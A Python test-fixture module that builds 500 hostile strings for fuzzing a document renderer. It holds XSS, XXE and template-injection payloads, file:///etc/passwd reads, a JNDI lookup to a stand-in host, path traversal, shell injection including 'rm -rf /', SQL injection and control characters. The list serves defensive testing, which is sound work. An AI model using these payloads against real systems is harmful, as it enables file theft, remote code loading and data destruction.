"""Five hundred texts that want to be something else: markup, code, PDF, paths, controls."""

from __future__ import annotations

_WANTS = (
    # Markup, and ways out of it
    "<b>bold</b>",
    '<img src="file:///etc/passwd">',
    '<img src="http://example.invalid/x.png" onerror="alert(1)">',
    '<link rel=attachment href="file:///etc/hostname">',
    '<link rel="stylesheet" href="http://example.invalid/x.css">',
    '<a href="http://example.invalid/">click</a>',
    '<a href="file:///etc/passwd" rel="attachment">file</a>',
    '<object data="file:///etc/passwd"></object>',
    '<iframe src="http://example.invalid/"></iframe>',
    "<script>alert(document.cookie)</script>",
    "<style>* { display: none }</style>",
    '<meta http-equiv="refresh" content="0; url=http://example.invalid/">',
    '<base href="http://example.invalid/">',
    '<form action="http://example.invalid/"><input name="x"></form>',
    "<svg><image href='file:///etc/passwd'/></svg>",
    "</title></head><body>",
    "</p></td></tr></table></div></body></html>",
    "<!-- <p>",
    "<![CDATA[ x ]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "&lt;b&gt; &amp; &#60; &nbsp",
    # Templates, formats, styles
    "{{ 7 * 7 }}",
    "{% include 'private.html' %}{# x #}",
    "{{ self.__init__.__globals__ }}",
    "%(name)s %s %d %n",
    "{0} {name} {title.__class__}",
    "${jndi:ldap://example.invalid/a}",
    "@import url(http://example.invalid/x.css);",
    "background: url(file:///etc/passwd)",
    "content: attr(href) counter(page)",
    "} @page { size: 1mm } * {",
    # PDF
    ") Tj ET Q q BT (",
    "endstream endobj 1 0 obj << /Type /Catalog >>",
    "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "/Names << /EmbeddedFiles >> /OpenAction",
    "%PDF-1.7 %%EOF startxref 0",
    "(unbalanced ( \\( \\\\",
    "<feff0041>",
    # Paths, shells, tables
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON NUL C:\\x:y|z?*",
    "$(touch x) `touch x` ; rm -rf / #",
    "'; DROP TABLE answers; --",
    "=HYPERLINK(1) +1 -1 @SUM",
    # Characters
    "\u202eright\u202d to left \u2066isolate\u2069",
    "שלום and مرحبا mixed",
    "😀 👩‍👩‍👧 🏳️‍🌈 ✅ ⚠️",
    "a\u0301\u0323\u0334 zero\u200b\u200d\ufeffwidth",
    "\x00\x01\x07\x1b[31m\x7f\x85",
    "\ud800 \udfff \ufdd0 \uffff \U0010ffff",
)
_IN = (
    "{}",
    "before {} after",
    '"{}"',
    "'{}'",
    '">{}<x y="',
    "-->{}<!--",
    "]]>{}",
    "</p>{}<p>",
    "{{{{ '{}' }}}}",
    "{}\n{}",
)

HOSTILE = tuple(frame.format(*[want] * 2) for frame in _IN for want in _WANTS)
